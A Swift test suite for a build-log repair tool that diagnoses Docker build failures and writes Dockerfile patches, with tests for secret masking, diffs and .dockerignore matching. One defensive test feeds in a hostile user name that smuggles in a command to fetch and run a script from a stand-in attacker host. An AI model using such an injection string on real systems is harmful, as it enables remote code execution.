import Testing

@testable import StepTimeline

struct RepairTests {
  /// The lines that a patch takes away and adds.
  private func changes(_ patch: String) -> [String] {
    patch.split(separator: "\n").map(String.init).filter {
      ($0.hasPrefix("-") || $0.hasPrefix("+")) && !$0.hasPrefix("--- ") && !$0.hasPrefix("+++ ")
    }
  }

  @Test(arguments: Thoroughness.some(RepairCase.all, oneOf: 2)) func aLogAndItsDockerfileGiveThePatch(
    _ scenario: RepairCase
  ) throws {
    let build = try #require(scenario.build())
    #expect(build.dockerfiles.map(\.fits) == [true])
    let primary = build.diagnoses.first { $0.isPrimary }
    let diagnosis = try #require(primary)
    let patches = diagnosis.fixes.compactMap(\.patch).map(changes)
    #expect(patches.contains(scenario.changes), "\(diagnosis.rule): \(patches)")
    // Only what was made for this build comes first.
    #expect(diagnosis.fixes.first?.patch != nil)
  }

  @Test(arguments: RepairCase.some) func aRepairedDockerfileIsNotRepairedAgainInTheSameWay(
    _ scenario: RepairCase
  ) throws {
    let build = try #require(scenario.build())
    let primary = build.diagnoses.first { $0.isPrimary }
    let diagnosis = try #require(primary)
    guard let fix = diagnosis.fixes.first(where: { $0.patch.map(changes) == scenario.changes }),
      let rewrite = fix.rewrites.first(where: { $0.path == "Dockerfile" })
    else { return }
    // The diagnosis as it was before its fixes were made.
    let fresh = try #require(scenario.reading)
    let untouched = fresh.diagnoses.first { $0.rule == diagnosis.rule } ?? diagnosis
    let finder = SiteFinder(build: build, project: scenario.project)
    guard
      let site = finder.site(in: ProjectFiles.Source(path: "Dockerfile", bytes: rewrite.new), for: untouched)
    else { return }
    let again = RepairPlan(diagnosis: untouched, site: site, masksSecrets: true).fixes
    #expect(
      !again.contains {
        $0.patch.map(changes) == scenario.changes && scenario.changes.contains { $0.hasPrefix("+") }
      })
  }

  @Test func everyRecipeHasACase() {
    let shown = Set(RepairCase.all.map(\.recipe))
    // A recipe that changes only the build command has no patch; see LoginTests.
    let declared = Set(RuleCatalog.all.flatMap { $0.repairs ?? [] }).subtracting([
      .passArgument, .setClock, .goDeclaredPath,
    ])
    #expect(declared.subtracting(shown).map(\.rawValue).sorted() == [])
  }

  @Test func aPackageThatIsGoneIsNoEndOfARelease() throws {
    let gone =
      "E: Failed to fetch http://archive.ubuntu.com/ubuntu/pool/main/v/vim/vim_8.0-1_amd64.deb  404  Not Found"
    for (image, ends) in [("ubuntu:22.04", false), ("someone/app", false), ("ubuntu:19.10", true)] {
      let scenario = RepairCase(
        .archivedRelease, "FROM \(image)\nRUN apt-get install -y vim\n", failing: "RUN apt-get",
        "\(gone)\nE: Unable to fetch some archives, maybe run apt-get update or try with --fix-missing?",
        exitCode: 100)
      let build = try #require(scenario.build())
      let fixes = build.primaryDiagnosis?.fixes ?? []
      #expect(fixes.contains { $0.patch?.hasText("old-releases") == true } == ends, "\(image)")
    }
  }

  @Test(arguments: [
    ("cp a /app/b", "cp: cannot create regular file '/app/b': Permission denied", 1),
    ("python manage.py seed", "PermissionError: [Errno 13] Permission denied: '/app/seed.log'", 1),
    ("cat /app/key", "cat: /app/key: Permission denied", 1),
    ("bash -c 'echo a > /app/b'", "bash: line 1: /app/b: Permission denied", 1),
  ]) func aFileThatIsNotRunNeedsNoExecuteBit(_ command: String, _ output: String, _ exitCode: Int) throws {
    let scenario = RepairCase(
      .makeExecutable, "FROM debian:bookworm\nCOPY . /app\nUSER app\nRUN \(command)\n",
      failing: "RUN", output, exitCode: exitCode)
    let primary = try #require(scenario.build()?.primaryDiagnosis)
    #expect(primary.rule == "permission-denied")
    #expect(!primary.fixes.contains { $0.text.hasText("chmod") && !$0.rewrites.isEmpty })
    #expect(primary.fixes.first?.text.hasText("root") == true)
  }

  @Test func aDockerfileOfAnotherBuildIsNotUsed() throws {
    var scenario = RepairCase.all[0]
    let log = scenario.log
    scenario.dockerfile = "FROM debian:bookworm\nRUN something else\n"
    var reader = BuildLogReader(source: "test.log")
    reader.feed(Array(log.utf8).span)
    var build = try #require(reader.finish().first)
    build.addRepairs(for: scenario.project)
    #expect(build.dockerfiles == [DockerfileUse(path: "Dockerfile", target: nil, fits: false)])
    let diagnosis = try #require(build.diagnoses.first)
    #expect(diagnosis.fixes.allSatisfy { $0.rewrites.isEmpty && ($0.patch == nil || $0.isFromExcerpt) })
  }

  @Test func withoutADockerfileThePatchIsMadeFromTheExcerpt() throws {
    let scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
    let build = try #require(scenario.build(with: ProjectFiles()))
    let fix = try #require(build.diagnoses.first?.fixes.first)
    #expect(fix.isFromExcerpt)
    #expect(fix.patch?.hasText("@@ -1,3 +1,3 @@") == true)
    #expect(fix.applicability == .likely)
  }

  @Test func aPatchKeepsCarriageReturnsAndAMissingLineEnd() throws {
    var scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
    scenario.dockerfile = "FROM debian:bookworm\r\nRUN apt-get update\r\nRUN apt-get install vim"
    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
    #expect(
      fix.patch
        == "--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,3 +1,3 @@\n FROM debian:bookworm\r\n RUN apt-get update\r\n-RUN apt-get install vim\n\\ No newline at end of file\n+RUN apt-get install -y vim\n\\ No newline at end of file\n"
    )
  }

  @Test func aPatchWithASecretIsNotShown() throws {
    var scenario = try #require(RepairCase.all.first { $0.recipe == .answerYes })
    scenario.dockerfile =
      "FROM debian:bookworm\nENV NPM_TOKEN=npm_abcdefghijklmnopqrstuvwxyz0123456789\nRUN apt-get install vim\n"
    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
    #expect(fix.patch == nil)
    #expect(fix.patchNote != nil)
  }

  @Test func valuesOfTheLogEnterAPatchOnlyInTheirForm() throws {
    let scenario = RepairCase(
      .createUser, "FROM debian:bookworm\nCOPY . /www\nRUN chown -R x /www\n", failing: "RUN chown",
      "chown: invalid user: 'x;curl${IFS}evil.example|sh'")
    let build = try #require(scenario.build())
    let fixes = build.diagnoses.flatMap(\.fixes)
    #expect(fixes.allSatisfy { $0.patch?.hasText("evil.example") != true })
  }

  @Test(
    arguments: [
      (Array("# caf".utf8) + [0xE9] + Array("\na\nb\nc\nd\n".utf8), "\n"), (Array("six\r\n".utf8), "\r\n"),
    ] as [([UInt8], String)])
  func aListOfPackagesIsRepairedInItsEncodingAndWithItsLineEnds(_ head: [UInt8], _ end: String) throws {
    let scenario = try #require(RepairCase.all.first { $0.recipe == .listedVersion && $0.context != nil })
    var project = scenario.project
    project.contents = { $0 == "requirements.txt" ? head + Array("idna==3.99\(end)".utf8) : nil }
    let fixes = try #require(scenario.build(with: project)?.diagnoses.first { $0.isPrimary }).fixes
    let rewrite = fixes.flatMap(\.rewrites).first { $0.path == "requirements.txt" }
    #expect(rewrite?.new == head + Array("idna==3.10\(end)".utf8))
  }

  @Test func editsAreMadeTogetherOrNotAtAll() {
    let bytes = Array("abc".utf8)
    let good = Edit(range: 0..<1, expected: [97], replacement: [65])
    let bad = Edit(range: 1..<2, expected: [97], replacement: [65])
    #expect(FileChange(path: "x", old: bytes, edits: [good]).new == Array("Abc".utf8))
    #expect(FileChange(path: "x", old: bytes, edits: [good, bad]).new == nil)
    let overlapping = Edit(range: 0..<2, expected: [97, 98], replacement: [])
    #expect(FileChange(path: "x", old: bytes, edits: [overlapping, good]).new == nil)
  }

  @Test func changesFarApartAreHunksOfTheirOwn() {
    let old = (1...30).map { "\($0)\n" }.joined()
    let new = (1...30).map { $0 == 3 ? "three\n" : $0 == 28 ? "twenty-eight\n29 more\n" : "\($0)\n" }.joined()
    let patch = String(
      decoding: UnifiedDiff(path: "f", old: Array(old.utf8), new: Array(new.utf8)).bytes, as: UTF8.self)
    #expect(patch.hasText("@@ -1,6 +1,6 @@\n 1\n 2\n-3\n+three\n 4\n"))
    #expect(patch.hasText("@@ -25,6 +25,7 @@\n"))
  }

  @Test func suggestionsNameTheLinesThatTheyReplace() throws {
    let scenario = try #require(RepairCase.all.first { $0.recipe == .declareArgument })
    let fix = try #require(scenario.build()?.diagnoses.first?.fixes.first)
    let json = ReviewSuggestions(of: fix).json
    #expect(json.hasText("\"path\": \"Dockerfile\", \"line\": 4, \"side\": \"RIGHT\""))
    #expect(json.hasText("```suggestion\\nARG HOME_DIR\\nRUN mkdir -p \\\"$HOME_DIR\\\"\\n```"))
  }
}

struct ContextFilesTests {
  @Test(arguments: [
    ("a/b", "a", true), ("a/b", "b", false), ("a/b", "**/b", true), ("x.log", "*.log", true),
    ("d/x.log", "*.log", false),
    ("d/x.log", "**/*.log", true), (".env.sample", ".env*", true), ("a", "a/b", false),
  ]) func patternsOfDockerignoreMatchPathsAndFoldersAbove(_ path: String, _ pattern: String, _ wanted: Bool) {
    #expect(IgnorePatterns.matches(path, pattern) == wanted)
  }

  @Test(arguments: [
    (String(repeating: "*a", count: 40) + "*b", String(repeating: "a", count: 200), false),
    (String(repeating: "*a", count: 40) + "*b", String(repeating: "a", count: 200) + "b", true),
    (
      String(repeating: "**/a/", count: 40) + "b", String(repeating: "a/", count: 60) + "c", false
    ),
    ("a/**/b/*/c", "a/b/x/b/y/c", true), ("**/**", "a", true), ("a/**/b", "a/b", true), ("a*", "a", true),
  ]) func manyStarsOfAPatternAreReadInReasonableTime(_ pattern: String, _ path: String, _ wanted: Bool) {
    #expect(IgnorePatterns.matches(path, pattern) == wanted)
  }

  @Test(arguments: [
    ("#a\n", "#a", false), (" #a\n", "#a", true), ("  a \t\r\nb", "a", true), (" ! a", "a", false),
    ("a\n ! a \n", "a", false), ("\u{FEFF}a\n", "a", true), ("!\n\n", "a", false), ("/a/\n", "a/b", true),
  ]) func linesOfDockerignoreAreReadAsTheEngineReadsThem(_ lines: String, _ path: String, _ wanted: Bool) {
    #expect(IgnorePatterns(Array(lines.utf8)).excludes(path) == wanted)
  }
}
